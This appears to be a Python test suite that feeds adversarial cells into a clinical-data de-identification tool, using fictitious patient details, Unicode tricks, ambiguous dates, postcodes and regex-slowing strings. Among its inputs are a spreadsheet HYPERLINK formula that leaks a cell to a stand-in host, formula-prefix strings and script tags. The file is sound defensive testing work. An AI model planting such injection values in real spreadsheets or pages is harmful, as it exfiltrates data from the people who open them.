"""Attacks by what stands in one cell: in the wrong place, in another alphabet, dates and ages in disguise, places."""

from functools import partial

from privacy.clinic import Act, Case, Clinic

NUMBER = "59382716"  # of a patient, as it may stand anywhere
PERSON = "Ottoline Vandersloot"


def _put(clinic: Clinic, column: str, cell: str, row: int = 1) -> None:
    clinic.put(column, cell, row)


def put(column: str, cell: str) -> Act:
    """Return the attack that puts a cell into the second row."""
    return partial(_put, column=column, cell=cell)


# family, column, what it is, the cell
WRONG_CELLS = [
    ("wrong place", "dose", "a name as a dose", PERSON),
    ("wrong place", "dose", "a telephone number as a dose", "5551234567"),
    ("wrong place", "dose", "a record number as a dose", NUMBER),
    ("wrong place", "dose", "a dose with a name after it", f"60 {PERSON}"),
    ("wrong place", "dose", "a name glued to a dose", "60Vandersloot"),
    ("wrong place", "dose", "a social security number as a dose", "219-09-9999"),
    ("wrong place", "dose", "an exponent that overflows", "12E03456"),
    ("wrong place", "dose", "infinity, which pandas reads from a surname", "Inf"),
    ("wrong place", "pain", "a name as a score", PERSON),
    ("wrong place", "pain", "a date of birth as a score", "19430517"),
    ("wrong place", "age", "a name as an age", PERSON),
    ("wrong place", "age", "a year of birth as an age", "1943"),
    ("wrong place", "seen", "a name as a date", PERSON),
    ("wrong place", "sex", "a name as a sex", PERSON),
    ("wrong place", "diagnosis", "a full name as a diagnosis", PERSON),
    ("wrong place", "diagnosis", "an e-mail address as a diagnosis", "o.vandersloot@example.org"),
    ("wrong place", "diagnosis", "the serial number of a device", "SN-4471-AX-90213"),
    ("wrong place", "diagnosis", "an account number", "DE89370400440532013000"),
    ("wrong place", "diagnosis", "an IP address", "192.0.2.146"),
    ("wrong place", "diagnosis", "a web address", "https://example.org/p/vandersloot"),
    ("wrong place", "diagnosis", "a relative", f"CRPS, sister of {PERSON}"),
    ("wrong place", "diagnosis", "an office that only one person holds", "the mayor of Quillhampton"),
    ("wrong place", "diagnosis", "an employer", "works for Quillfeather Shipping"),
    ("wrong place", "diagnosis", "a street", "14 Quillhampton Lane"),
    ("wrong place", "diagnosis", "a name that is a word: May", "May"),
    ("wrong place", "diagnosis", "a name that is a word: Will", "Will"),
    ("wrong place", "diagnosis", "a name that is a word: Grace", "Grace"),
    ("wrong place", "diagnosis", "a name that is a word: Long", "Long"),
    ("wrong place", "diagnosis", "a name that is an eponym", "Horner"),
    ("wrong place", "diagnosis", "a name that is a drug", "Allegra"),
    ("wrong place", "diagnosis", "a diagnosis with a name after it", f"CRPS {PERSON}"),
    ("wrong place", "diagnosis", "a formula for a spreadsheet", '=HYPERLINK("https://example.org/?"&A2,"vandersloot")'),
    ("wrong place", "diagnosis", "text that begins like a formula: +", "+vandersloot"),
    ("wrong place", "diagnosis", "text that begins like a formula: -", "-vandersloot"),
    ("wrong place", "diagnosis", "text that begins like a formula: @", "@vandersloot"),
    ("wrong place", "diagnosis", "a script for the report's page", "<script>vandersloot()</script>"),
    ("wrong place", "diagnosis", "coordinates", "41.88203, -87.62317"),
    ("unicode", "diagnosis", "a word with a no-break space", "CRPS\u00a0vandersloot"),
    ("unicode", "diagnosis", "a word with a sign of no width", "CR\u200bPS"),
    ("unicode", "diagnosis", "a word with a soft hyphen", "neuro\u00adpathy"),
    ("unicode", "diagnosis", "a word with a right-to-left mark", "\u202eSPRC\u202c"),
    ("unicode", "diagnosis", "a word with Cyrillic look-alikes", "СRРS"),
    ("unicode", "diagnosis", "a word in full-width letters", "ＣＲＰＳ"),
    ("unicode", "diagnosis", "a name taken apart into letters and accents", "Zoe\u0308 Vandersloot"),
    ("unicode", "sex", "a Greek capital that looks like M", "Μ"),
    ("unicode", "dose", "full-width digits", "６０"),
    ("unicode", "dose", "Arabic digits", "٦٠"),
    ("unicode", "dose", "a superscript digit", "60²"),
    ("unicode", "pain", "a half", "½"),
    ("unicode", "seen", "full-width digits in a date", "２０２３-04-11"),
    ("dates and ages", "seen", "day or month first, nobody knows", "04/03/2023"),
    ("dates and ages", "seen", "two digits of a year", "23-04-11"),
    ("dates and ages", "seen", "a date in words", "11 April 2023"),
    ("dates and ages", "seen", "a date with a time of day", "2023-04-11T09:41:00"),
    ("dates and ages", "seen", "a spreadsheet's serial number", "45027"),
    ("dates and ages", "seen", "seconds since 1970", "1681206060"),
    ("dates and ages", "seen", "a day that does not exist", "2023-02-30"),
    ("dates and ages", "seen", "a year of one thousand years ago", "0123-04-11"),
    ("dates and ages", "seen", "a date without separators", "20230411"),
    ("dates and ages", "seen", "a date with a name", f"2023-04-11 {PERSON}"),
    ("dates and ages", "age", "90 and more, in words of the clinic", "90+"),
    ("dates and ages", "age", "an age in words", "ninety-three"),
    ("dates and ages", "age", "a negative age", "-1"),
    ("dates and ages", "age", "an age above every other", "121"),
    ("dates and ages", "age", "months", "18 months"),
    ("dates and ages", "age", "an age with a date of birth", "71 (1951-05-17)"),
    ("dates and ages", "age", "not a number, as a number", "nan"),
    ("process", "dose", "digits and spaces that make regular expressions crawl", "1 " * 20_000),
    ("process", "seen", "beginnings of dates that make regular expressions crawl", "2023-" * 8_000),
]

# what it is, the surname
REMOVED_NAMES = [
    ("a surname that pandas takes for a missing value: NA", "NA"),
    ("a surname that pandas takes for a missing value: Null", "Null"),
    ("a surname that pandas takes for a missing value: None", "None"),
    ("a surname that pandas takes for a missing value: nan", "nan"),
    ("a surname that pandas takes for infinity", "Inf"),
    ("a surname that pandas takes for a truth value", "True"),
    ("a surname of one letter", "O"),
    ("a surname of two letters", "Ng"),
    ("a surname that is a drug", "Ketalarson"),
    ("a no-break space inside a name", "Vander\u00a0Sloot"),
    ("a sign of no width inside a name", "Vander\u200bsloot"),
    ("a soft hyphen inside a name", "Vander\u00adsloot"),
    ("right-to-left marks around a name", "\u200fVandersloot\u200e"),
    ("a name in Cyrillic look-alikes", "Vаndеrslооt"),
    ("a name with its accents apart", "Vandersloo\u0308t"),
    ("a name with ß", "Vanderstraßen"),
    ("a name with a dotted capital İ", "İskenderoğlu"),
    ("a typographic apostrophe", "O’Vandersloot"),
    ("a hyphen of another kind", "Vander‑Sloot"),
    ("last name, first name", "Vandersloot, Ottoline"),
    ("a double surname with a suffix", "Vandersloot-Quillfeather III."),
    ("a name with a typing error", "Vanderslooot"),
    ("a formula as a name", "=Vandersloot+1"),
    ("a script as a name", "<script>Vandersloot</script>"),
]
REMOVED_NOTES = [
    ("a record number glued to a word in a note", f"pt{NUMBER}seen"),
    ("a record number with spaces in a note", "593 827 16 was seen"),
    ("a name in a note", f"{PERSON} tolerated it"),
    ("a relative in a note", "her brother Ottoline Vandersloot drove"),
    ("an office in a note", "the mayor of Quillhampton"),
    ("a telephone number in a note", "call 5550143999 on Monday"),
    ("a date in a note", "moved to 1997-10-31"),
    ("an address of a scan in a note", "https://example.org/scan/59382716"),
    ("a note of ten lines", "\n".join([PERSON] * 10)),
]
# A question to the notes, and what a note of each kind answers.
DISSOCIATION = {
    "answers": [
        {"answer": "none", "phrases": ["no dissociation"]},
        {"answer": "severe", "phrases": ["severe dissociat*"]},
    ],
    "otherwise": "not mentioned",
}
ANSWERED_NOTES = [
    ("a note with an answer and a name", f"{PERSON}: severe dissociation", "severe"),
    ("a name between the words of an answer", "severe Vandersloot dissociation", "not mentioned"),
    ("a name that begins like an answer", "severe dissociatonvandersloot", "severe"),
    ("a note that makes regular expressions crawl", "a" * 18_000 + "vandersloot!", "not mentioned"),
    ("a document as a note", f"severe dissociation {PERSON} " * 600, None),
]
POSTCODES = [
    ("a ZIP that begins with a zero", "01001", "010"),
    ("a ZIP that lost its zero in a spreadsheet", "1001", "000"),
    ("a restricted prefix of the 2020 Census", "03601", "000"),
    ("a prefix that the list of 2000 did not restrict", "20212", "000"),
    ("a prefix that no ZIP has", "09012", "000"),
    ("zeros", "00000", "000"),
    ("nine digits", "98101-4321", "981"),
    ("nine digits in one", "981014321", "981"),
    ("a Canadian code", "K1A 0B1", "000"),
    ("a city in its place", "Quillhampton", "000"),
    ("coordinates in its place", "41.88203,-87.62317", "000"),
    ("a name in its place", PERSON, "000"),
    ("a telephone number in its place", "5550143999", "000"),
    ("full-width digits", "９８１０１", "000"),
]
AGES = [("89.99 years", "89.99", 89), ("90 years", "90", 90), ("120 years", "120", 90), ("104.5 years", "104.5", 90)]


def put_unit(cell: str) -> Act:
    """Return the attack by a cell of a column that holds the units of doses."""

    def act(clinic: Clinic) -> None:
        clinic.columns["unit"] = {"role": "clinical", "type": "category", "values": ["mg", "g"]}
        clinic.columns["dose"] |= {"units": ["g"], "unit_column": "unit"}
        clinic.header.append("unit")
        clinic.rows = [[*row, "mg"] for row in clinic.rows]
        clinic.put("unit", cell)

    return act


def put_answered(note: str) -> Act:
    """Return the attack by a note of which a declared question passes."""

    def act(clinic: Clinic) -> None:
        clinic.columns["note"]["features"] = {"dissociation": DISSOCIATION}
        clinic.put("note", note)

    return act


def _answer_is(clinic: Clinic, expected: str | None) -> None:
    passed = clinic.passed()
    assert "note" not in passed
    assert sorted(passed["dissociation"].fillna("")) == sorted(["not mentioned"] * 4 + [expected or ""])


def _region_is(clinic: Clinic, expected: str) -> None:
    assert expected in set(clinic.passed()["postcode"])
    assert len(clinic.passed()) == 5


def _age_is(clinic: Clinic, expected: int) -> None:
    assert sorted(clinic.passed()["age"])[-1] == max(expected, 61)
    assert clinic.passed()["age"].max() <= 90


def _all_rows_pass(clinic: Clinic) -> None:
    assert len(clinic.passed()) == 5
    assert clinic.left_out() == 0


# Words that the declaration or the files hold as well cannot be looked for.
COMMON = {"May", "Will", "Grace", "Long", "Inf", "nan", "NA", "None", "True", "O", "Ng", "Null", "CRPS", "neuropathy"}


def _planted(cell: str) -> tuple[str, ...]:
    visible = cell.replace("\u200b", "").replace("\u00ad", "")
    is_common = visible in COMMON or len(cell) < 5
    return () if is_common else (cell, *(part for part in cell.split() if "andersloot" in part))


CASES = [
    *[
        Case(f"{column}: {what}", family, f"{what} (`{column}`)", "cell", put(column, cell), _planted(cell))
        for family, column, what, cell in WRONG_CELLS
    ],
    *[
        Case(f"unit: {what}", "wrong place", f"{what} (a column of units)", "cell", put_unit(cell), _planted(cell))
        for what, cell in (("an e-mail address as a unit", "o.vandersloot@example.org"), ("a name as a unit", PERSON))
    ],
    *[
        Case(f"surname: {what}", "unicode" if not name.isascii() else "names", what, "absent", put("surname", name),
             _planted(name), _all_rows_pass)
        for what, name in REMOVED_NAMES
    ],
    *[
        Case(f"note: {what}", "free text", what, "absent", put("note", note), (note, PERSON, NUMBER), _all_rows_pass)
        for what, note in REMOVED_NOTES
    ],
    *[
        Case(f"answers: {what}", "free text", f"{what}, read for declared answers", "absent", put_answered(note),
             (note, PERSON, "vandersloot"), partial(_answer_is, expected=expected))
        for what, note, expected in ANSWERED_NOTES
    ],
    *[
        Case(f"postcode: {what}", "geography", f"{what}: becomes {expected}", "absent", put("postcode", code),
             (code,) if len(code) > 4 and code != "00000" else (), partial(_region_is, expected=expected))
        for what, code, expected in POSTCODES
    ],
    *[
        Case(f"age: {what}", "dates and ages", f"{what}: becomes {expected}", "absent", put("age", age), (),
             partial(_age_is, expected=expected))
        for what, age, expected in AGES
    ],
]  # fmt: skip
